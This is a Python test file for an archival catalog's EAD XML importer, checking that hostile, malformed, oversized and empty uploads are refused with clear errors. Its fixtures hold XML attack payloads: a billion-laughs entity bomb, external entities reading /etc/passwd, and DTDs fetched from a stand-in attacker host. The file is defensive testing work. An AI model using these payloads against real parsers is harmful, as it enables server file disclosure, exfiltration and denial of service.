"""Parsing an uploaded EAD file: hostile and broken files are refused, each with where and why."""
import io

import pytest

from catalog.imports.ead import errors, safe

from .conftest import ICA_ATOM

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE ead [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<ead><archdesc level="fonds"><did><unittitle>&lol4;</unittitle></did></archdesc></ead>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ead [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<ead><archdesc level="fonds"><did><unittitle>&secret;</unittitle></did></archdesc></ead>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ead [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<ead><archdesc level="fonds"><did><unittitle>T</unittitle></did></archdesc></ead>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ead SYSTEM "file:///etc/passwd">
<ead><archdesc level="fonds"><did><unittitle>&passwd;</unittitle></did></archdesc></ead>"""

REMOTE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ead SYSTEM "http://attacker.example/evil.dtd">
<ead><archdesc level="fonds"><did><unittitle>T</unittitle></did></archdesc></ead>"""

INTERNAL_SUBSET = b"""<?xml version="1.0"?>
<!DOCTYPE ead [<!ELEMENT ead ANY>]>
<ead><archdesc level="fonds"><did><unittitle>T</unittitle></did></archdesc></ead>"""

EAD_DTD_WITH_HTML_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ead PUBLIC "+//ISBN 1-931666-00-8//DTD ead.dtd (Encoded Archival Description (EAD) Version 2002)//EN" "http://lcweb2.loc.gov/xmlcommon/dtds/ead2002/ead.dtd">
<ead><archdesc level="fonds">
<did><unittitle>A&nbsp;title</unittitle></did></archdesc></ead>"""


def parse(data):
    return safe.read_tree(io.BytesIO(data))


def test_billion_laughs_is_refused_without_expanding():
    with pytest.raises(errors.Hostile) as refused:
        parse(BILLION_LAUGHS)
    assert refused.value.message == errors.ENTITY_DECLARATIONS % {"names": "lol, lol2, lol3, lol4"}


def test_an_external_entity_is_refused_and_never_read():
    with pytest.raises(errors.Hostile) as refused:
        parse(EXTERNAL_ENTITY)
    assert "secret" in refused.value.message
    assert "root:" not in refused.value.message


def test_a_parameter_entity_naming_a_remote_dtd_is_refused():
    with pytest.raises(errors.Hostile) as refused:
        parse(PARAMETER_ENTITY)
    assert refused.value.message == errors.ENTITY_DECLARATIONS % {"names": "remote"}


@pytest.mark.parametrize("data, url", [
    (EXTERNAL_DTD, "file:///etc/passwd"), (REMOTE_DTD, "http://attacker.example/evil.dtd"),
])
def test_an_external_dtd_other_than_eads_is_refused(data, url):
    with pytest.raises(errors.Hostile) as refused:
        parse(data)
    assert refused.value.message == errors.EXTERNAL_DTD % {"url": url}


def test_declarations_of_its_own_are_refused():
    with pytest.raises(errors.Hostile) as refused:
        parse(INTERNAL_SUBSET)
    assert refused.value.message == str(errors.INTERNAL_SUBSET)


def test_eads_own_dtd_is_named_but_not_loaded(monkeypatch):
    # ICA-AtoM's export names the Library of Congress's ead.dtd: read without fetching anything.
    def no_network(*args, **kwargs):
        raise AssertionError("the parser tried to open a connection")

    monkeypatch.setattr("socket.socket.connect", no_network)
    tree = safe.read_tree(ICA_ATOM.open("rb"))
    assert tree.docinfo.system_url == "http://lcweb2.loc.gov/xmlcommon/dtds/ead2002/ead.dtd"
    assert tree.getroot().tag == "ead"


def test_an_entity_only_a_dtd_defines_is_refused_with_its_line():
    with pytest.raises(errors.Hostile) as refused:
        parse(EAD_DTD_WITH_HTML_ENTITY)
    assert refused.value.line == 4
    assert refused.value.message == errors.ENTITY_REFERENCE % {"line": 4, "name": "nbsp"}


def test_an_undeclared_entity_without_a_dtd_is_malformed():
    with pytest.raises(errors.Malformed) as refused:
        parse(b"<ead>\n<archdesc>&nbsp;</archdesc></ead>")
    assert (refused.value.line, refused.value.column) == (2, 17)


def test_malformed_xml_says_line_and_column():
    with pytest.raises(errors.Malformed) as refused:
        parse(b'<?xml version="1.0"?>\n<ead>\n  <archdesc level="fonds">\n    <did></archdesc>\n</ead>')
    fault = refused.value
    assert (fault.line, fault.column) == (4, 21)
    assert fault.message == errors.MALFORMED % {
        "line": 4, "column": 21, "problem": "Opening and ending tag mismatch: did line 4 and archdesc",
    }


def test_a_file_over_the_cap_is_refused_before_parsing(settings):
    settings.ARKIV_MAX_EAD_BYTES = 1024 * 1024
    data = b"<ead>" + b" " * (1024 * 1024 + 512 * 1024 - 11) + b"</ead>"
    with pytest.raises(errors.TooLarge) as refused:
        parse(data)
    assert refused.value.message == errors.TOO_LARGE % {"size": "1.5", "limit": "1"}


def test_the_cap_defaults_to_50_megabytes(settings):
    assert settings.ARKIV_MAX_EAD_BYTES == safe.MAX_BYTES == 50 * 1024 * 1024
    del settings.ARKIV_MAX_EAD_BYTES  # a settings module without it: the same default
    assert safe.max_bytes() == safe.MAX_BYTES


def test_a_huge_text_node_is_refused_as_libxml2_limits_it():
    # huge_tree off: no text node over 10,000,000 bytes, even in a file under the cap.
    data = b"<ead><archdesc><did><unittitle>" + b"a" * 10_000_001 + b"</unittitle></did></archdesc></ead>"
    with pytest.raises(errors.Malformed):
        parse(data)


def test_an_empty_file_is_refused():
    with pytest.raises(errors.Empty):
        parse(b"  \n ")
